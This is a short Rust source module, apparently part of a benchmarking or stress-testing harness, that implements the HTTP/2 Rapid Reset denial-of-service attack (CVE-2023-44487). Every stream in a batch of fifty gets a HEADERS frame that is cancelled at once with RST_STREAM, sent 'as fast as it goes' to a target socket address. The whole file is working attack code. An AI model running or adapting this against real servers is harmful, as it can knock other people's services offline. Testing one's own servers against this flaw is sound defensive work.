//! HTTP/2 requests that are taken back in the same breath (CVE-2023-44487): HEADERS and RST_STREAM, as fast as it goes.

use std::net::SocketAddr;

use anyhow::Result;

use super::{
    budget::Budget,
    frames::{self, HEADERS, RST_STREAM, frame},
};

/// How many requests go in one breath.
const BATCH: u32 = 50;
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// `GET http /` from the static table, and `:authority: bench` (RFC 7541).
const BLOCK: &[u8] = b"\x82\x86\x84\x41\x05bench";

/// How many streams it opened.
pub(super) fn run(to: SocketAddr, budget: &mut Budget<'_>) -> Result<u64> {
    frames::run(to, budget, BATCH, breath)
}

fn breath(before: u32) -> Vec<u8> {
    let mut bytes = Vec::new();
    for request in 0..BATCH {
        let stream = (before * BATCH + request) * 2 + 1;
        frame(&mut bytes, HEADERS, stream, BLOCK);
        frame(&mut bytes, RST_STREAM, stream, &CANCEL);
    }
    bytes
}
